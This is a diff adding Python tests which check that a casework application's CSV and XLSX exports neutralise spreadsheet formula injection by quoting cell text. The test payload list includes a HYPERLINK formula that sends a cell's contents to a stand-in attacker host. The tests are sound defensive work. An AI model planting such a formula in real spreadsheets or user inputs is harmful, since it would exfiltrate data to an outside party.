@@ -13,7 +13,7 @@ from casework.services import exports
 from casework.services.pipeline import pipeline
 from casework.services.targets import set_target, target_progress
 from helpers import new_user
-from test_pipeline import YEAR, add_case, build_country, filters, login
+from test_pipeline import YEAR, add_case, build_country, filters, login, unit
 
 
 def read_csv(response) -> list[list[str]]:
@@ -136,3 +136,58 @@ def test_exports_need_login_and_a_known_format(client):
     assert client.get("/leadership/exports/cases.csv").status_code == 302
     login(client, new_user("leader", "VGCL"))
     assert client.get("/leadership/exports/cases.pdf").status_code == 404
+
+
+# --- formulas: text a spreadsheet would run is neutralised in every export (casework/spreadsheet)
+
+FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1")
+
+
+def xlsx_cells(response) -> list[list]:
+    """The cells themselves (not only their values): a formula has data_type "f"."""
+    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def test_case_exports_neutralise_text_that_would_run_as_a_formula(client):
+    for name in FORMULAS:
+        add_case("LDLD-79", "79", "identified", name=name)
+    login(client, new_user("leader", "VGCL"))
+    names = {r[6] for r in read_csv(client.get("/leadership/exports/cases.csv"))[1:]}
+    assert names == {"'" + name for name in FORMULAS}
+
+    cells = {row[6].value: row[6] for row in xlsx_cells(
+        client.get("/leadership/exports/cases.xlsx"))[1:]}
+    # the text itself, typed as a string (XML reads a carriage return back as a line feed)
+    assert set(cells) == {name.replace("\r", "\n") for name in FORMULAS}
+    assert {(c.data_type, c.quotePrefix) for c in cells.values()} == {("s", True)}
+
+
+def test_pipeline_and_target_exports_neutralise_unit_names(client):
+    hcm = unit("LDLD-79")
+    hcm.name = "=1+1"
+    add_case("LDLD-79", "79", "founded", founded_members=30, founded_on=date(YEAR, 1, 2))
+    db.session.commit()
+    login(client, new_user("admin", "VGCL"))
+    rows = read_csv(client.get(f"/leadership/exports/pipeline.csv?by=unit&year={YEAR}"))
+    assert "'=1+1" in {r[1] for r in rows}
+    assert "=1+1" not in {r[1] for r in rows}
+    rows = read_csv(client.get(f"/leadership/exports/targets.csv?year={YEAR}"))
+    assert next(r for r in rows if r[0] == "LDLD-79")[1] == "'=1+1"
+
+    for url in (f"/leadership/exports/pipeline.xlsx?by=unit&year={YEAR}",
+                f"/leadership/exports/targets.xlsx?year={YEAR}"):
+        cell = next(r[1] for r in xlsx_cells(client.get(url)) if r[1].value == "=1+1")
+        assert cell.data_type == "s", url
+    founded = next(r for r in xlsx_cells(client.get(f"/leadership/exports/targets.xlsx?year={YEAR}"))
+                   if r[0].value == "LDLD-79")[7]
+    assert (founded.value, founded.data_type) == (30, "n")     # numbers stay numbers
+
+
+def test_the_neutralising_apostrophe_is_undone_exactly_on_reading_back():
+    from casework.spreadsheet import csv_text, csv_value
+    for text in FORMULAS + ("'=1", "''+2", "'plain", "plain", "", "a=1", "5"):
+        assert csv_value(csv_text(text)) == text
+    assert csv_text("'=1") == "''=1" and csv_text("'plain") == "'plain"
+    assert csv_text(-5) == -5 and csv_text(None) is None
